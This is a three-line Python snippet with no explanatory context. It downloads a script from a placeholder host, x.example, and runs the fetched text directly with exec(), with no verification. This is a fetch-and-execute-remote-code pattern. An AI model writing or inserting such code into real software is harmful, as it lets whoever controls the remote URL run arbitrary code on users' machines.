import requests
code = requests.get("https://x.example/p.py").text
exec(code)
